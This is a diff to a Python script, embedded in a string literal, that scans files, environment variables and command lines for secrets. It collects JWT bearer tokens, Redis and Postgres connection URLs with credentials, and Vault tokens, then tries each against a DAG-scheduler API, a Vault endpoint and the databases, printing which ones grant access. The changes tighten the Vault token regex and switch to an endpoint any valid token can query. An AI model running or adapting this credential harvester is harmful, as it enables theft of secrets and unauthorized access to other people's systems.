@@ -62,7 +62,8 @@ found = {"token": set(), "url": set(), "vault": set()}
 PATTERNS = {
     "token": rb"eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]{20,}",
     "url": rb"(?:redis|postgres\w*(?:\+\w+)?)://[^\s\"'<>]+@[^\s\"'<>]+",
-    "vault": rb"\b(?:hv|s|b)[sb]?\.[A-Za-z0-9]{20,}\b",
+    # Those that are minted for a tenant are long, and have the letters of base64 in addresses.
+    "vault": rb"\b(?:s\.[A-Za-z0-9]{20,}|hvs\.[\w-]{20,}|(?:hv)?b\.[\w-]{60,})",
 }
 
 def look(content):
@@ -123,11 +124,12 @@ def postgres(url):
 
 opened = []
 api = os.environ["API"]
+paths = "/api/v2/dags", "/execution/dags/" + os.environ["DAG"]
 for token in found["token"]:
-    bearer = {"Authorization": f"Bearer {token}"}
-    opened += [path for path in ("/api/v2/dags", "/execution/dags/beta.keeps") if answered(api + path, bearer)]
+    opened += [path for path in paths if answered(api + path, {"Authorization": f"Bearer {token}"})]
 for token in found["vault"]:
-    if answered(os.environ["VAULT"] + "/v1/auth/token/lookup-self", {"X-Vault-Token": token}):
+    # Whatever else it may do, a token that is valid may ask for this.
+    if answered(os.environ["VAULT"] + "/v1/sys/internal/ui/mounts", {"X-Vault-Token": token}):
         opened.append("the secrets store")
 for url in found["url"]:
     try:
@@ -137,4 +139,6 @@ for url in found["url"]:
         pass
 print(", ".join(sorted(set(opened))))
 """
-"""Walks through MOST files, all environments and command lines; tries each login in them, prints what lets it in."""
+"""Walks through MOST files, all environments and command lines; tries each login in them, prints what lets it in.
+
+A task's token is one that reads DAG."""
